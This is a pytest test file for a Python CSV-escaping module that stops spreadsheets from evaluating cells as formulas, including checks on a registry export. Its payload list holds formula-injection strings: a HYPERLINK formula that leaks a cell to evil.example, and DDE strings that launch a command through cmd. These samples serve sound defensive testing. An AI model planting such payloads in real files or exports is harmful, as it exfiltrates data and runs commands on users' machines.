"""Spreadsheet-safe CSV (aankomst.csvsafe) and its use by the registry export: no cell a
spreadsheet reads as a formula — whether it splits the file at ',' (the file's separator) or
at ';' (a Belgian spreadsheet opening a comma file) — and exact round trips."""

from __future__ import annotations

import csv
import doctest
import io
import re

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aankomst import csvsafe
from aankomst.csvsafe import neutralise, restore, to_csv

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "Open daily;=1+1",
    "Open daily,=1+1",
    'Open daily; "=1+1',
    "\t=1+1",
    "\r=1+1",
    "line one\n=1+1",
    "'=1+1",
    "a;\t@x",
]


def _live(cell: str) -> bool:
    """Could a spreadsheet evaluate this cell? (leading spaces, quotes, tabs and line breaks
    ignored — some spreadsheets strip them; plain numbers are values, not formulas)."""
    c = cell.lstrip(' "\t\r\n')
    return bool(c) and c[0] in "=+-@" and not csvsafe.is_plain_number(re.split(r"[,;\t\r\n]", c)[0])


def _cells(text: str, delimiter: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for c in row]


def test_doctests():
    assert doctest.testmod(csvsafe).failed == 0


@pytest.mark.parametrize("text", PAYLOADS)
def test_payloads_neutralised_and_restored(text):
    out = neutralise(text)
    assert out != text and restore(out) == text
    assert not _live(out)


@pytest.mark.parametrize("sep", [",", ";"])
def test_no_live_cell_with_either_delimiter(sep):
    df = pd.DataFrame({"id": range(len(PAYLOADS)), "name": PAYLOADS, "note": PAYLOADS[::-1],
                       "x": [-3.5] * len(PAYLOADS)})
    text = to_csv(df, sep=sep)
    for delimiter in (",", ";", "\t"):
        live = [c for c in _cells(text, delimiter) if _live(c)]
        assert not live, (sep, delimiter, live)
    back = list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))
    assert back[0] == ["id", "name", "note", "x"]
    assert [restore(r[1]) for r in back[1:]] == PAYLOADS
    assert [r[3] for r in back[1:]] == ["-3.5"] * len(PAYLOADS)


def test_open_daily_is_one_cell_for_its_own_separator_and_never_live_for_the_other():
    text = to_csv(pd.DataFrame({"id": [7], "opening_hours": ["Open daily;=1+1"]}))
    assert text.splitlines()[1] == "7,\"Open daily;'=1+1\""
    assert list(csv.reader(io.StringIO(text)))[1] == ["7", "Open daily;'=1+1"]
    semicolon = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
    assert semicolon == ['7,"Open daily', "'=1+1\""] and not any(_live(c) for c in semicolon)


def test_plain_numbers_and_numeric_columns_are_kept():
    df = pd.DataFrame({"value": [-3.5, 2.0, float("nan")], "n": [-1, 0, 3],
                       "text": ["-3.5", "+32", "-3.5 kg"]})
    lines = to_csv(df, lineterminator="\n").splitlines()
    assert lines[1:] == ['-3.5,-1,"-3.5"', '2.0,0,"+32"', ",3,\"'-3.5 kg\""]
    assert neutralise(-3.5) == -3.5 and neutralise(None) is None and neutralise("") == ""
    assert neutralise("1e-3") == "1e-3" and neutralise("-.5") == "-.5"


def test_every_text_field_quoted_numbers_bare(tmp_path):
    rows = [{"a": "x", "b": 1, "c": None, "d": 2.5, "e": ""}]
    assert to_csv(rows, lineterminator="\n") == '"a","b","c","d","e"\n"x",1,,2.5,\n'
    p = tmp_path / "out.csv"
    assert to_csv(rows, p, sep=";") is None
    assert p.read_bytes() == b'"a";"b";"c";"d";"e"\r\n"x";1;;2.5;\r\n'
    buf = io.StringIO()
    to_csv(pd.DataFrame(rows), buf)
    assert buf.getvalue().startswith('"a","b","c","d","e"')
    with pytest.raises(ValueError, match="separator"):
        to_csv(rows, sep='"')


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r\n,;' \"a1.e")), max_size=16) | st.text(max_size=30))
def test_restore_inverts_neutralise_and_nothing_is_live(text):
    out = neutralise(text)
    assert restore(out) == text
    csv_text = to_csv([{"n": 1, "t": text, "u": text}])
    for delimiter in (",", ";"):
        assert not [c for c in _cells(csv_text, delimiter) if _live(c)], (text, delimiter)
    assert [restore(c) for c in list(csv.reader(io.StringIO(csv_text, newline="")))[1][1:]] == [text, text]


def test_registry_export_uses_safe_csv():
    from aankomst.registry.io import EXPORT_COLUMNS, read_records
    from aankomst.registry.io import to_csv as registry_csv

    row = {c: None for c in EXPORT_COLUMNS}
    row.update(id=1, version=2, name="@SUM(1+1)", opening_hours="Open daily;=1+1",
               contact="+cmd|' /C calc'!A0", domains=["health", "language"], lon=4.4, lat=51.2)
    text = registry_csv([row])
    for delimiter in (",", ";"):
        assert not [c for c in _cells(text, delimiter) if _live(c)]
    rec = read_records(text.encode(), fmt="csv")[0][1]
    assert rec["name"] == "@SUM(1+1)" and rec["opening_hours"] == "Open daily;=1+1"
    assert rec["contact"] == "+cmd|' /C calc'!A0" and rec["domains"] == "health;language"
